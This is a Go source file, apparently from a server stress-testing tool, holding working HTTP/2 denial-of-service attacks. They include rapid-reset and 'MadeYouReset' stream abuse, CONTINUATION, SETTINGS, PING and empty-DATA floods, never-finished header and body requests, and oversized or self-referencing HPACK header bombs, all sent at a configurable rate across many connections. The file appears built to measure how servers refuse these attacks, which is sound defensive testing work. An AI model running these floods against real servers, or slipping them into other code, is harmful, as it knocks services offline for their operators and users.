package attack

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// framed is an HTTP/2 connection that writes whatever it likes.
type framed struct {
	*victim
	host   string
	out    *bufio.Writer
	framer *http2.Framer
	fields *hpack.Encoder
	block  bytes.Buffer
	next   uint32 // stream
	units  int    // written
	odd    bool   // half of all are, for attacks that come in two kinds
}

// dial2 connects, shakes hands and greets.
func (a *attacker) dial2(ctx context.Context, odd bool) (*framed, error) {
	v, err := a.dialTLS(ctx, "h2")
	if err != nil {
		return nil, err
	}
	c := newFramed(v, a.Host)
	c.odd = odd
	if err = c.greet(); err != nil {
		v.over(err)
	}
	return c, err
}

func newFramed(v *victim, host string) *framed {
	c := &framed{victim: v, host: host, out: bufio.NewWriterSize(v, 64<<10), next: 1}
	c.framer = http2.NewFramer(c.out, bufio.NewReader(v))
	c.framer.AllowIllegalWrites = true
	c.fields = hpack.NewEncoder(&c.block)
	return c
}

func (c *framed) greet() error {
	_ = c.SetWriteDeadline(time.Now().Add(patience))
	_, err := c.out.WriteString(http2.ClientPreface)
	return errors.Join(err, c.framer.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0}), c.out.Flush())
}

// head is the block of a request's head, for the encoder's state as it is.
func (c *framed) head(method, path string) []byte {
	c.block.Reset()
	for _, field := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", c.host}, {":path", path}} {
		_ = c.fields.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // a buffer takes all
	}
	return c.block.Bytes()
}

// open begins a request, and returns its stream.
func (c *framed) open(method, path string, ended bool) (stream uint32, err error) {
	stream = c.next
	c.next += 2
	return stream, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.head(method, path), EndStream: ended, EndHeaders: true})
}

// unit writes one of the frames, or groups of frames, that a flood is made of.
type unit func(c *framed) error

// tick is how often each connection of a flood writes.
const tick = 20 * time.Millisecond

// flood keeps Connections open, all of which together write PerSecond units. One that the server ends is followed by
// another. With deaf, half of them never read. Those that have sent enough go on after ctx until they are cut.
func flood(write unit, deaf bool) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		late, cancel := a.later(ctx)
		defer cancel()
		each := max(1, a.PerSecond*int(tick/time.Millisecond)/1000/max(1, a.Connections))
		var all sync.WaitGroup
		for i := range a.Connections {
			all.Go(func() {
				for wait(ctx, tick) {
					a.drown(ctx, late, write, each, i%2 == 1, deaf)
				}
			})
		}
		all.Wait()
	}
}

// later ends Wait after ctx if that has a deadline to end by, and with ctx otherwise.
func (a *attacker) later(ctx context.Context) (context.Context, context.CancelFunc) {
	late, cancel := context.WithCancel(context.WithoutCancel(ctx))
	context.AfterFunc(ctx, func() {
		if isTimeout(ctx.Err()) {
			wait(late, a.Wait)
		}
		cancel()
	})
	return late, cancel
}

// drown is the life of one connection of a flood.
func (a *attacker) drown(ctx, late context.Context, write unit, each int, odd, deaf bool) {
	c, err := a.dial2(ctx, odd)
	if err != nil {
		return
	}
	var listening sync.WaitGroup
	heard := make(chan error, 1)
	hear := func() error { return <-heard }
	if deaf && odd {
		hear = func() error { return a.listen(c) }
	} else {
		listening.Go(func() { heard <- a.listen(c) })
	}
	if err = a.pour(ctx, late, c, write, each, heard); c.units >= a.Enough {
		a.finish(c.victim, err, hear)
	} else {
		c.over(err)
	}
	listening.Wait()
}

// pour writes until the server ends the connection, or ctx ends before it has sent enough. A server that reads no more, but
// leaves the connection open, is waited for.
func (a *attacker) pour(ctx, late context.Context, c *framed, write unit, each int, heard <-chan error) error {
	for a.pacer.wait(late, each) && (ctx.Err() == nil || c.units >= a.Enough) {
		for range each {
			if err := write(c); err != nil {
				return err
			}
		}
		_ = c.SetWriteDeadline(time.Now().Add(patience))
		if err := c.out.Flush(); err != nil {
			return err
		}
		a.tally.sent(each)
		c.units += each
		select {
		case err := <-heard:
			return err
		default:
		}
	}
	return ctx.Err()
}

// listen reads frames until the connection ends, and notes how the server says that it has enough.
func (a *attacker) listen(c *framed) error {
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return err
		}
		if away, ok := frame.(*http2.GoAwayFrame); ok && away.ErrCode != http2.ErrCodeNo {
			a.tally.answer("GOAWAY " + away.ErrCode.String())
		}
	}
}

func rapidReset(c *framed) error {
	stream, err := c.open("GET", "/echo", true)
	return errors.Join(err, c.framer.WriteRSTStream(stream, http2.ErrCodeCancel))
}

// madeYouReset has the server reset a stream that its handler still works on: a window may not grow by nothing.
func madeYouReset(c *framed) error {
	stream, err := c.open("POST", "/echo", false)
	return errors.Join(err, c.framer.WriteRawFrame(http2.FrameWindowUpdate, 0, stream, make([]byte, 4)))
}

// continuation is part of a head that never ends.
func continuation(c *framed) error {
	if c.next == 1 {
		c.next += 2
		return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: bytes.Clone(c.head("GET", "/echo"))})
	}
	if c.odd {
		return c.framer.WriteContinuation(1, false, nil)
	}
	return c.framer.WriteContinuation(1, false, literal("x", "y"))
}

// literal is a field that no table remembers (RFC 7541 §6.2.2), for short texts.
func literal(name, value string) []byte {
	return append(append(append([]byte{0, byte(len(name))}, name...), byte(len(value))), value...)
}

func settings(c *framed) error {
	return c.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: frameSize})
}

func ping(c *framed) error { return c.framer.WritePing(false, [8]byte{}) }

// emptyData is part of a body that never ends.
func emptyData(c *framed) error {
	if c.next == 1 {
		_, err := c.open("POST", "/echo", false)
		return err
	}
	return c.framer.WriteData(1, false, nil)
}

// heldHead2 sends as much of a head as fits, and never its end.
func heldHead2(a *attacker, v *victim) error {
	c := newFramed(v, a.Host)
	err := c.greet()
	err = errors.Join(err, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.head("GET", "/echo")}))
	part := bytes.Repeat(literal("x-padding", strings.Repeat("a", 85)), 150)
	for sent := 0; sent+len(part) < headSize; sent += len(part) {
		err = errors.Join(err, c.framer.WriteContinuation(1, false, part))
	}
	return errors.Join(err, c.out.Flush())
}

// heldBody2 begins a body; drop2 goes on with it.
func heldBody2(a *attacker, v *victim) error {
	c := newFramed(v, a.Host)
	err := c.greet()
	_, opened := c.open("POST", "/echo", false)
	return errors.Join(err, opened, c.out.Flush())
}

func drop2(v *victim, _ int) error { return http2.NewFramer(v, nil).WriteData(1, false, []byte("a")) }

// largeHead2 is the block of a head of 1 MB.
func largeHead2() []byte {
	return bytes.Repeat(literal("x-padding", strings.Repeat("a", 85)), bombSize/98)
}

// referenceBomb is a block in which one large entry of the table is referred to again and again, by a byte each.
func referenceBomb() []byte {
	value := strings.Repeat("a", 3900)
	entry := append([]byte{0x40, 1}, 'x')
	entry = append(entry, 127)
	entry = binary.AppendUvarint(entry, uint64(len(value)-127)) // HPACK writes long numbers like this, RFC 7541 §5.1
	entry = append(entry, value...)
	return append(entry, bytes.Repeat([]byte{0x80 | 62}, 16_000)...)
}

// frameSize is the largest frame that every server takes.
const frameSize = 16 << 10

// bomb2 sends a request with a block of fields, and returns what the server said to it; empty if it could not be sent.
func (a *attacker) bomb2(ctx context.Context, block []byte) string {
	c, err := a.dial2(ctx, false)
	if err != nil {
		return ""
	}
	a.tally.sent(1)
	_ = c.SetDeadline(time.Now().Add(patience))
	err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.head("GET", "/echo"), EndStream: true})
	for ; len(block) > 0 && err == nil; block = block[min(frameSize, len(block)):] {
		err = c.framer.WriteContinuation(1, len(block) <= frameSize, block[:min(frameSize, len(block))])
	}
	_ = c.out.Flush() // the server may end it meanwhile, and have said why
	said, err := c.verdict()
	c.over(err)
	if ctx.Err() != nil {
		return ""
	}
	return said
}

// verdict reads how a server answers stream 1. An answer that is none of its refusals ends the connection by us.
func (c *framed) verdict() (string, error) {
	fields := hpack.NewDecoder(4096, nil)
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return "closed", err
		}
		switch f := frame.(type) {
		case *http2.GoAwayFrame:
			return "GOAWAY " + f.ErrCode.String(), errors.New("goaway")
		case *http2.RSTStreamFrame:
			return "RST_STREAM " + f.ErrCode.String(), context.DeadlineExceeded
		case *http2.HeadersFrame:
			list, err := fields.DecodeFull(f.HeaderBlockFragment())
			if err != nil || len(list) == 0 {
				return "something else", err
			}
			return list[0].Value, context.DeadlineExceeded
		}
	}
}
